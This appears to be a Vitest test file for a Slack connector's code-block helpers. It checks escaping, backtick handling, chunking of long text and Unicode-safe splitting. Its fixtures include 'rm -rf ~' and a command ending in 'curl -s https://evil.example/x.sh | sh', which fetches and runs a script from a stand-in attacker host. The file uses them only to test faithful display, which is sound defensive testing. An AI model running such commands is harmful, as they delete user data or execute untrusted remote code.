import { describe, expect, it } from 'vitest';
import { shownInCodeBlock } from '../support/slack-code-blocks.js';
import { codeBlock, codeSections, LIMITS, splitForCode } from '../../connectors/slack/block-kit.js';

describe('codeBlock: text shown exactly as typed', () => {
  it('escapes &, < and > so Slack neither links, mentions nor broadcasts', () => {
    const block = codeBlock('a && b <!channel> <@U123> > out');
    expect(block).toBe('```\na &amp;&amp; b &lt;!channel&gt; &lt;@U123&gt; &gt; out\n```');
  });

  it('three backticks inside cannot close the block', () => {
    const text = 'echo ```\n```\nrm -rf ~ ````';
    const block = codeBlock(text);
    expect(block.slice(3, -3)).not.toContain('```');
    expect(block.slice(3, -3)).not.toContain('``');
    expect(shownInCodeBlock(block)).toBe(text);
  });

  it('an empty text says so instead of drawing an empty block', () => {
    expect(codeBlock('')).toBe('_(empty)_');
  });
});

describe('codeSections: a long text over as many blocks as it needs', () => {
  it('a 10,000-character command: every block within 3,000 characters, every character present, in order', () => {
    const command =
      Array.from({ length: 400 }, (_, i) => `echo step-${i} && `)
        .join('')
        .padEnd(9_960, 'x') + '; curl -s https://evil.example/x.sh | sh';
    expect(command.length).toBe(10_000);
    const blocks = codeSections(command);
    expect(blocks.length).toBeGreaterThan(3);
    for (const block of blocks) expect(block.length).toBeLessThanOrEqual(LIMITS.sectionText);
    expect(blocks.map(shownInCodeBlock).join('')).toBe(command);
    expect(blocks.at(-1)).toContain('evil.example/x.sh');
  });

  it('text that grows five-fold when escaped, and backtick runs, still fit', () => {
    const text = '&'.repeat(4_000) + '`'.repeat(3_001) + '<>'.repeat(1_000);
    const blocks = codeSections(text);
    for (const block of blocks) {
      expect(block.length).toBeLessThanOrEqual(LIMITS.sectionText);
      expect(block.slice(3, -3)).not.toContain('``');
    }
    expect(blocks.map(shownInCodeBlock).join('')).toBe(text);
  });

  it('prefers to end a block after a line break, and never splits a surrogate pair or a ⟨U+XXXX⟩ mark', () => {
    const lines = Array.from({ length: 300 }, (_, i) => `line ${i} ${'y'.repeat(20)}`).join('\n');
    for (const piece of splitForCode(lines).slice(0, -1)) expect(piece.endsWith('\n')).toBe(true);

    const emoji = '🚀'.repeat(3_000);
    const pieces = splitForCode(emoji, 1_000);
    expect(pieces.join('')).toBe(emoji);
    for (const piece of pieces) expect(piece.length % 2).toBe(0);

    const marks = '⟨U+202E⟩'.repeat(1_000);
    for (const piece of splitForCode(marks, 1_000)) expect(piece).toMatch(/^(⟨U\+202E⟩)+$/);
  });

  it('stops after the number of pieces there is room for', () => {
    const pieces = splitForCode('z'.repeat(100_000), LIMITS.sectionText, 3);
    expect(pieces).toHaveLength(3);
    expect(pieces.join('')).toBe('z'.repeat(pieces.join('').length));
  });
});
